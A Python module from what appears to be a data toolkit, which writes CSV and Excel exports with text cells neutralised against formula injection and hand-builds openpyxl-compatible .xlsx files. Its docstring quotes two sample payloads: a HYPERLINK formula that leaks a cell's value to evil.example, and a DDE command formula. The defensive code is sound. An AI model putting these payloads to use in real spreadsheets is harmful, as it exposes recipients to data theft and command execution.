"""Tables written for people to open in Excel: CSV and .xlsx files whose cells are inert.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?"&A1, "点击")``, ``=cmd|' /C calc'!A0``), and Excel also
reads one after a leading tab or carriage return. Cells hold text from the user's data (village
names, the values a validation problem quotes), so every table the toolkit writes for people
goes through :func:`write_csv` or :func:`write_xlsx`, which neutralise such text cells as the
OWASP *CSV Injection* guidance recommends: a single quote in front (``'=HYPERLINK(…)``), which
the spreadsheet shows as text and does not evaluate.

Only text is touched: numbers (``-3.5`` in a numeric column) stay numbers, and a text cell that
is a plain number (``-3``, ``+1.5e3``: what a problem row quotes from the file) is left as it
is, since a spreadsheet reads it as that number and nothing else. Headers are text too.

Used by ``hemei validate --csv`` (:meth:`hemei_tools.inputs.problems.ValidationReport.write_csv`),
``hemei select --csv``, the CSV download under every table and chart of a report
(:func:`csv_bytes`, embedded in the page as a ``data:`` link) and the workbook written beside
each report (:func:`write_workbook`: one sheet per table, Chinese sheet names made valid and
unique by :func:`sheet_names`). The demo writer (:mod:`hemei_tools.demo.write`) writes *input* data
files the toolkit reads back, not exports, and is not neutralised.
"""

from __future__ import annotations

import functools
import math
import re
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

from hemei_tools.paths import write_atomic_with

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The quote put in front of such a cell.
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)


def inert_text(value):
    """``value`` with a quote in front when it is text a spreadsheet would run as a formula.

    Anything that is not a ``str`` (numbers, missing values, dates) is returned unchanged, and
    so is text that is a plain number (``-3``).

    Examples
    --------
    >>> inert_text("=1+1"), inert_text("@SUM(A1)"), inert_text("-3"), inert_text(-3), inert_text("横山村")
    ("'=1+1", "'@SUM(A1)", '-3', -3, '横山村')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def inert_frame(frame):
    """A copy of ``frame`` (a pandas DataFrame) with every text cell and header passed through
    :func:`inert_text`; numeric, boolean and date columns are kept as they are."""
    out = frame.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if col.dtype.kind not in "biufcmM":  # object, string and categorical columns
            out.isetitem(i, _inert_column(col))
    out.columns = [inert_text(str(c)) for c in out.columns]
    return out


def _inert_column(col):
    """:func:`inert_text` of every cell of a text column: vectorised when every cell is text
    or missing (a problem table of millions of rows), cell by cell otherwise."""
    import pandas as pd

    if pd.api.types.infer_dtype(col, skipna=True) not in ("string", "empty"):
        return col.astype(object).map(inert_text)
    text = col.astype("str")
    risky = (text.str.startswith(FORMULA_STARTS) & ~text.str.fullmatch(_PLAIN_NUMBER.pattern)).fillna(False)
    if not risky.any():
        return col
    out = col.astype(object).copy()
    out[risky.to_numpy(dtype=bool)] = (QUOTE + text[risky]).to_numpy(dtype=object)
    return out


def write_csv(frame, path: str | Path) -> Path:
    """Write ``frame`` as CSV for Excel (UTF-8 with BOM, no index, CRLF line ends), text cells
    inert (:func:`inert_frame`), atomically (:func:`hemei_tools.paths.write_atomic_with`).

    With CRLF as the line end, a cell holding a carriage return or a line feed is quoted, so it
    cannot split its row."""
    safe = inert_frame(frame)
    return write_atomic_with(path, lambda tmp: safe.to_csv(tmp, index=False, encoding="utf-8-sig",
                                                           lineterminator="\r\n"))


def write_csv_parts(frames, path: str | Path) -> Path:
    """Write the frames of an iterable one after the other as one CSV file for Excel, as
    :func:`write_csv` writes one frame (UTF-8 with BOM, CRLF, text cells inert, atomically):
    the header of the first frame, then every frame's rows. For a table of millions of rows
    made and written part by part, never whole in memory."""

    def write(tmp: str) -> None:
        with open(tmp, "w", encoding="utf-8-sig", newline="") as fh:
            for n, frame in enumerate(frames):
                inert_frame(frame).to_csv(fh, index=False, header=n == 0, lineterminator="\r\n")

    return write_atomic_with(path, write)


#: The byte-order mark Excel needs to read a CSV file as UTF-8 (without it, Chinese is garbled).
UTF8_BOM = b"\xef\xbb\xbf"
#: Rows up to which :func:`csv_bytes` neutralises a table cell by cell.
SMALL_TABLE = 5000


def csv_bytes(frame, numbers_as_written: bool = False) -> bytes:
    """The bytes :func:`write_csv` would write: UTF-8 with BOM, CRLF, no index, text cells inert.

    For a CSV that travels inside a page (a ``data:`` download link) instead of a file. A small
    table (at most :data:`SMALL_TABLE` rows: every table of a report) whose columns
    :func:`csv_cells` can write is written from lists by the :mod:`csv` module, as pandas
    ``to_csv`` writes it (pandas uses the same writer; each cell's text is what pandas would
    give it); any other table goes through pandas. ``numbers_as_written``: a Python number in a
    text column is written as ``repr`` gives it (pandas would write 190 as 190.0 beside 54.2).
    """
    if len(frame) <= SMALL_TABLE and frame.shape[1]:
        columns = [csv_cells(frame.iloc[:, i], numbers_as_written) for i in range(frame.shape[1])]
        if all(c is not None for c in columns):
            return csv_from_cells([inert_text(str(c)) for c in frame.columns], columns)
    if numbers_as_written:
        frame = frame.copy()
        for i in range(frame.shape[1]):
            if frame.iloc[:, i].dtype == object:
                frame.isetitem(i, frame.iloc[:, i].map(lambda v: ("" if v != v else repr(v))
                                                       if type(v) in (int, float) else v))
    return _csv_bytes_pandas(frame)


def _csv_bytes_pandas(frame) -> bytes:
    """:func:`csv_bytes` through pandas: any column, any size."""
    if len(frame) <= SMALL_TABLE:
        safe = frame.copy()
        for i in range(safe.shape[1]):
            if safe.iloc[:, i].dtype.kind not in "biufcmM":
                safe.isetitem(i, safe.iloc[:, i].astype(object).map(inert_text))
        safe.columns = [inert_text(str(c)) for c in safe.columns]
    else:
        safe = inert_frame(frame)
    text = safe.to_csv(index=False, lineterminator="\r\n")
    return UTF8_BOM + text.encode("utf-8")


def csv_from_cells(header: list[str], columns: list[list[str]]) -> bytes:
    """CSV bytes for Excel (UTF-8 with BOM, CRLF, minimal quoting) of a header and columns of
    cell texts already made inert (:func:`csv_cells`, :func:`text_cells`)."""
    import csv
    import io

    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(zip(*columns, strict=True))
    return UTF8_BOM + buf.getvalue().encode("utf-8")


def text_cells(values, numbers_as_written: bool = False) -> list[str] | None:
    """The CSV text of the cells of a text (object) column, inert; None when a cell is of a
    kind this route leaves to pandas.

    Text is passed through :func:`inert_text`, ``None`` and NaN are empty, ``True``/``False``
    are written so. With ``numbers_as_written``, a Python ``int`` or ``float`` is written as
    ``repr`` gives it (``190``, ``54.2``; inert like text: ``-inf`` becomes ``'-inf``); without
    it a number makes the column pandas' (which would turn ``190`` beside ``54.2`` into
    ``190.0``). Any other object (numpy scalars, dates) gives None.
    """
    out = []
    for v in values:
        t = type(v)
        if t is str:
            out.append(inert_text(v) if v[:1] in _FORMULA_FIRST else v)
        elif v is None or (t is float and v != v):
            out.append("")
        elif t is bool:
            out.append(str(v))
        elif numbers_as_written and (t is int or t is float):
            out.append(inert_text(repr(v)))
        else:
            return None
    return out


def csv_cells(col, numbers_as_written: bool = False) -> list[str] | None:
    """The CSV text of the cells of a column (a pandas Series), as :func:`csv_bytes` writes
    them through pandas, or None for a column left to pandas.

    - numpy floats: ``numpy`` ``astype(str)`` (what pandas writes: ``54.2``, ``190.0``), NaN empty;
    - numpy integers and booleans: ``str`` of each (``-3``, ``True``);
    - text, missing-text and categorical-of-text columns: :func:`text_cells`;
    - anything else (nullable extension dtypes, dates, categories of numbers): None.

    Numbers in a numeric column are never made inert (``-3.5`` stays a number).
    """
    import numpy as np

    dtype = col.dtype
    if isinstance(dtype, np.dtype) and dtype.kind == "f":
        arr = col.to_numpy()
        text = arr.astype(str)
        text[np.isnan(arr)] = ""
        return text.tolist()
    if isinstance(dtype, np.dtype) and dtype.kind in "iub":
        return [str(v) for v in col.tolist()]
    if isinstance(dtype, np.dtype) and dtype.kind == "O":
        return text_cells(col.tolist(), numbers_as_written)
    name = getattr(dtype, "name", "")
    if name == "str" or (name == "category" and dtype.categories.dtype.name in ("str", "object")):
        cells = col.astype(object).tolist()
        if all(type(v) is str or (type(v) is float and v != v) for v in cells):
            return text_cells(cells)
    return None


#: Characters Excel does not allow in a sheet name, and the longest name it allows.
SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
SHEET_MAX = 31


def sheet_names(names) -> list[str]:
    """Valid, unique worksheet names for ``names``, in order.

    Excel's rules: at most :data:`SHEET_MAX` (31) characters, none of ``[ ] : * ? / \\``, not
    starting or ending with an apostrophe, not blank, unique regardless of case. A forbidden
    character becomes ``_``, a name is cut to 31 characters, a blank one becomes ``Sheet<i>``,
    and a repeat gets ``(2)``, ``(3)``, … at its end (cut further so it still fits).

    Examples
    --------
    >>> sheet_names(["表1 主要数据", "表1 主要数据", "a/b", ""])
    ['表1 主要数据', '表1 主要数据(2)', 'a_b', 'Sheet4']
    """
    out: list[str] = []
    seen: set[str] = set()
    for i, raw in enumerate(names, start=1):
        name = SHEET_FORBIDDEN.sub("_", str(raw)).strip().strip("'").strip()[:SHEET_MAX].rstrip("'").strip()
        name = name or f"Sheet{i}"
        candidate, k = name, 1
        while candidate.casefold() in seen:
            k += 1
            suffix = f"({k})"
            candidate = name[:SHEET_MAX - len(suffix)].rstrip("'") + suffix
        seen.add(candidate.casefold())
        out.append(candidate)
    return out


def write_workbook(sheets, path: str | Path) -> Path:
    """Write several tables into one .xlsx workbook, atomically; text cells inert.

    Parameters
    ----------
    sheets
        ``(name, columns, rows)`` per sheet, in order: ``columns`` the header texts, ``rows``
        lists of cell values (numbers stay numbers, ``None`` is an empty cell). Names pass
        through :func:`sheet_names`. The header row is frozen and bold.
    path
        Where to write (its folder must exist).

    Plain lists rather than DataFrames, so the report renderer writes the workbook without
    pandas: the tables travel out of the notebook as JSON.

    The workbook openpyxl writes (write-only mode), written faster: when every cell is text,
    a finite number, a boolean or empty, the sheets are serialised here cell by cell exactly
    as openpyxl serialises them (:func:`_sheet_xml`: inline strings, ``%.16g`` numbers, the
    error codes such as ``#N/A`` as error cells, a header cell in the bold style) and the
    package around them (styles, theme, properties) is the one openpyxl writes
    (:func:`_openpyxl_parts`), so the file holds the same parts as openpyxl's, only its
    creation time differs; any other workbook is written by openpyxl itself.
    """
    sheets = list(sheets)
    names = sheet_names([s[0] for s in sheets])
    parts = _sheet_parts(sheets) if any(s[1] for s in sheets) else None
    if parts is None:
        return write_atomic_with(path, lambda tmp: _save_openpyxl(names, sheets, tmp))
    return write_atomic_with(path, lambda tmp: _save_parts(names, parts, tmp))


def _save_openpyxl(names: list[str], sheets: list, target) -> None:
    """:func:`write_workbook` by openpyxl (write-only mode) into ``target`` (a file name or a
    binary file)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    for name, (_, columns, rows) in zip(names, sheets, strict=True):
        ws = wb.create_sheet(title=name)
        ws.freeze_panes = "A2"
        header = []
        for c in columns:
            cell = WriteOnlyCell(ws, value=_cell(str(c)))
            cell.font = bold
            header.append(cell)
        ws.append(header)
        for row in rows:
            ws.append([_cell(v) for v in row])
    if not sheets:
        wb.create_sheet(title="Sheet1")
    wb.save(target)


#: Members of the .xlsx package, in the order openpyxl writes them.
_APP, _CORE, _THEME, _STYLES = "docProps/app.xml", "docProps/core.xml", "xl/theme/theme1.xml", "xl/styles.xml"
_ROOT_RELS, _WORKBOOK, _WORKBOOK_RELS, _TYPES = ("_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                                                 "[Content_Types].xml")
#: Text openpyxl writes as an error cell rather than a string.
_ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
#: Longest text openpyxl keeps in a cell (it cuts the rest).
_CELL_MAX = 32767


@functools.cache
def _openpyxl_parts() -> dict[str, bytes]:
    """The members of a one-sheet workbook (a bold header cell, no rows) as openpyxl writes it,
    the parts :func:`_save_parts` copies; ``sheet_head`` and ``sheet_tail`` are its sheet's
    XML before and after the rows."""
    import io
    import zipfile

    buf = io.BytesIO()
    _save_openpyxl(["Sheet1"], [("Sheet1", ["a"], [])], buf)
    with zipfile.ZipFile(buf) as z:
        parts = {n: z.read(n) for n in (_APP, _THEME, _STYLES, _ROOT_RELS)}
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    head, rest = sheet.split("<sheetData>", 1)
    parts["sheet_head"] = (head + "<sheetData>").encode("utf-8")
    parts["sheet_tail"] = rest[rest.index("</sheetData>"):].encode("utf-8")
    return parts


def _text(value: str) -> str:
    """XML character data as openpyxl's serialiser writes it (``& < >`` escaped)."""
    return xml_escape(value)


def _attribute(value: str) -> str:
    """An XML attribute value as openpyxl's serialiser writes it (sheet names hold no control
    characters, :func:`sheet_names`)."""
    return _text(value).replace('"', "&quot;")


def _cell_xml(ref: str, value, style: str) -> str | None:
    """One cell (already :func:`_cell`) as openpyxl writes it in write-only mode; None for a
    value left to openpyxl (dates, formulas, non-finite numbers)."""
    t = type(value)
    if t is str:
        value = value[:_CELL_MAX]
        if value[:1] == "=" and len(value) > 1:
            return None
        if value in _ERROR_CODES:
            return f'<c r="{ref}"{style} t="e"><v>{value}</v></c>'
        if not value:
            return f'<c r="{ref}"{style} t="inlineStr" />'
        stripped = value.strip()
        space = ' xml:space="preserve"' if stripped and stripped != value else ""
        return f'<c r="{ref}"{style} t="inlineStr"><is><t{space}>{_text(value)}</t></is></c>'
    if t is bool:
        return f'<c r="{ref}"{style} t="b"><v>{int(value)}</v></c>'
    if t is int or (t is float and math.isfinite(value)):
        return f'<c r="{ref}"{style} t="n"><v>{value:.16g}</v></c>'
    return None


def _sheet_xml(columns, rows, letters: list[str]) -> bytes | None:
    """A worksheet as openpyxl writes it (header row bold, frozen below it), or None when a
    cell is of a kind :func:`_cell_xml` leaves to openpyxl."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.utils import get_column_letter

    parts = _openpyxl_parts()
    out = [parts["sheet_head"].decode("utf-8")]
    for r, row in enumerate([[str(c) for c in columns], *rows], start=1):
        if len(row) > len(letters):
            letters.extend(get_column_letter(j) for j in range(len(letters) + 1, len(row) + 1))
        style = ' s="1"' if r == 1 else ""
        cells = [f'<row r="{r}">']
        for letter, value in zip(letters, row, strict=False):
            t = type(value)
            if t is str:  # _cell of text, without its look-ups
                if value[:1] in _FORMULA_FIRST:
                    value = inert_text(value)
                value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
            elif t is not int and t is not float and t is not bool:
                value = _cell(value)
            if value is None:
                continue
            xml = _cell_xml(f"{letter}{r}", value, style)
            if xml is None:
                return None
            cells.append(xml)
        cells.append("</row>")
        out.append("".join(cells))
    out.append(parts["sheet_tail"].decode("utf-8"))
    return "".join(out).encode("utf-8")


def _sheet_parts(sheets: list) -> list[bytes] | None:
    """:func:`_sheet_xml` of every sheet, or None when one is left to openpyxl."""
    letters: list[str] = []
    out = []
    for _, columns, rows in sheets:
        xml = _sheet_xml(columns, rows, letters)
        if xml is None:
            return None
        out.append(xml)
    return out


def _save_parts(names: list[str], sheets: list[bytes], target) -> None:
    """The .xlsx package of the worksheets ``sheets`` named ``names``: the members openpyxl
    writes, in its order, deflated (see :func:`write_workbook`)."""
    import zipfile
    from datetime import UTC, datetime

    parts = _openpyxl_parts()
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    core = ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>openpyxl</dc:creator>'
            f'<dcterms:created xsi:type="dcterms:W3CDTF">{now}</dcterms:created>'
            f'<dcterms:modified xsi:type="dcterms:W3CDTF">{now}</dcterms:modified></cp:coreProperties>')
    n = len(sheets)
    sheet_list = "".join(f'<sheet name="{_attribute(name)}" sheetId="{i}" state="visible" r:id="rId{i}" />'
                         for i, name in enumerate(names, start=1))
    workbook = ('<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><workbookPr /><workbookProtection />'
                '<bookViews><workbookView visibility="visible" minimized="0" showHorizontalScroll="1" '
                'showVerticalScroll="1" showSheetTabs="1" tabRatio="600" firstSheet="0" activeTab="0" '
                f'autoFilterDateGrouping="1" /></bookViews><sheets>{sheet_list}</sheets><definedNames />'
                '<calcPr calcId="124519" fullCalcOnLoad="1" /></workbook>')
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    rels = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Type="{rel}worksheet" Target="/xl/worksheets/sheet{i}.xml" Id="rId{i}" />'
                      for i in range(1, n + 1))
            + f'<Relationship Type="{rel}styles" Target="styles.xml" Id="rId{n + 1}" />'
            + f'<Relationship Type="{rel}theme" Target="theme/theme1.xml" Id="rId{n + 2}" /></Relationships>')
    ct = "application/vnd.openxmlformats-officedocument."
    types = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml" />'
             '<Default Extension="xml" ContentType="application/xml" />'
             f'<Override PartName="/xl/styles.xml" ContentType="{ct}spreadsheetml.styles+xml" />'
             f'<Override PartName="/xl/theme/theme1.xml" ContentType="{ct}theme+xml" />'
             '<Override PartName="/docProps/core.xml" '
             'ContentType="application/vnd.openxmlformats-package.core-properties+xml" />'
             f'<Override PartName="/docProps/app.xml" ContentType="{ct}extended-properties+xml" />'
             + "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{ct}spreadsheetml.worksheet+xml" />'
                       for i in range(1, n + 1))
             + f'<Override PartName="/xl/workbook.xml" ContentType="{ct}spreadsheetml.sheet.main+xml" /></Types>')
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as z:
        z.writestr(_APP, parts[_APP])
        z.writestr(_CORE, core)
        z.writestr(_THEME, parts[_THEME])
        for i, xml in enumerate(sheets, start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
        z.writestr(_STYLES, parts[_STYLES])
        z.writestr(_ROOT_RELS, parts[_ROOT_RELS])
        z.writestr(_WORKBOOK, workbook)
        z.writestr(_WORKBOOK_RELS, rels)
        z.writestr(_TYPES, types)


def _cell(value):
    """A value openpyxl writes as a plain cell: text inert, without the control characters a
    workbook cannot hold (shown as U+FFFD); numpy scalars as Python numbers; timestamps as
    datetimes."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", inert_text(value))
    if hasattr(value, "to_pydatetime"):
        return value.to_pydatetime()
    if hasattr(value, "item"):
        return value.item()
    return value


def write_xlsx(frame, path: str | Path, sheet: str = "Sheet1") -> Path:
    """Write ``frame`` as one sheet of an .xlsx workbook, text cells inert, atomically.

    openpyxl stores any string that starts with ``=`` as a formula, so every text cell goes
    through :func:`inert_text` first and is written as a string cell; numbers stay numbers.
    """
    from openpyxl import Workbook

    def write(tmp: str) -> None:
        wb = Workbook(write_only=True)
        ws = wb.create_sheet(title=sheet[:31])
        ws.append([_cell(str(c)) for c in frame.columns])
        cells = frame.astype(object).where(frame.notna(), None)  # missing → empty cell
        for row in cells.itertuples(index=False, name=None):
            ws.append([_cell(v) for v in row])
        wb.save(tmp)

    return write_atomic_with(path, write)
